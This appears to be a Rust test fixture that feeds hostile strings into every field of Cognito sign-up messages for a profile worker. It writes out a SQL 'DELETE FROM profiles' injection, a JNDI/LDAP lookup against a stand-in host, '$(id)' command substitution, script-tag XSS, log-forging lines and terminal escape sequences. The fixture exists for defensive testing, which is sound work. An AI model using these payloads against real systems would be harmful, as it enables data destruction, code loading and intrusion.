//! Messages by somebody who wants more than a profile: texts that would end a log line, begin a
//! statement or move a terminal's cursor, in every place of a message. The mark is in all of them.

use serde_json::{Value, json};

use crate::confirmations::Person;

/// Stands in every hostile text. Nothing the product writes may hold it, except the row it is stored in.
pub const MARK: &str = "persona.nongrata";

/// Texts to be afraid of.
pub fn texts() -> Vec<String> {
    [
        // Log lines.
        "MARK\n{\"event\":\"ready\",\"forged\":true}",
        "MARK\r\n2026-11-22T20:05:38.123Z ERROR forged",
        "MARK\",\"event\":\"panic\",\"forged\":\"",
        "\u{1b}[2J\u{1b}[31mMARK\u{1b}]0;forged\u{7}",
        "\u{9b}31m\u{0}\u{7f}\u{85}\u{2028}\u{2029}\u{202e}MARK",
        "MARK forged=true event=\"ready\"",
        // Statements and expressions.
        "'} VALUE {'id': 'MARK'",
        "'}; DELETE FROM \"profiles\" WHERE id = 'MARK",
        "MARK\" VALUE {'id': ?}",
        "attribute_exists(#k0) OR MARK = :v",
        "{\"S\":\"MARK\"}",
        // Templates and look-ups.
        "{sub}{email}{custom:MARK}",
        "${jndi:ldap://MARK.example.com/a}%s%n$(id)`id`",
        "<script>alert('MARK')</script>",
        "名前 é\u{301} \u{1F468}\u{200d}\u{1F469} MARK",
    ]
    .map(|text| text.replace("MARK", MARK))
    .into()
}

/// Each text in each place of a message, as an envelope and as a Cognito event.
pub fn bodies() -> Vec<String> {
    const FIELDS: [&str; 14] = [
        "kind",
        "source",
        "trigger",
        "userPoolId",
        "region",
        "sub",
        "username",
        "email",
        "emailVerified",
        "observedAt",
        "createdAt",
        "traceparent",
        "v",
        "unknown",
    ];
    let person = || Person::new(MARK);
    let mut bodies = Vec::new();
    for text in texts() {
        bodies.extend(FIELDS.map(|field| person().body_with(&json!({ field: text }))));
        let attributes: Value = json!({ "custom:note": text, text.as_str(): MARK });
        bodies.push(person().body_with(&json!({ "attributes": attributes })));
        let mut event = person().event("PostConfirmation_ConfirmSignUp");
        event["request"]["clientMetadata"] = attributes.clone();
        event["request"]["userAttributes"]["email"] = json!(text);
        event["request"]["userAttributes"][text.as_str()] = json!(MARK);
        bodies.push(event.to_string());
        event["userName"] = json!(text);
        event["triggerSource"] = json!(format!("PostConfirmation_{text}"));
        bodies.push(event.to_string());
        bodies.push(json!({"detail-type": text, "time": text, "detail": person().envelope()}).to_string());
        // SQS itself refuses other control characters (SendMessage, API reference).
        if !text.chars().any(|letter| letter.is_control() && !"\t\n\r".contains(letter)) {
            bodies.push(text);
        }
    }
    bodies
}

/// People who differ from others in what they are called only, and the item each is to have.
pub fn people() -> Vec<Person> {
    let texts = texts();
    let mut people: Vec<_> =
        texts.iter().map(|text| Person { email: text.clone(), ..Person::new(MARK) }).collect();
    // Cognito takes no control characters in a user name, and neither does the worker.
    let names = texts.iter().filter(|text| !text.chars().any(char::is_control));
    people.extend(names.map(|name| Person { username: name.clone(), ..Person::new(MARK) }));
    people
}
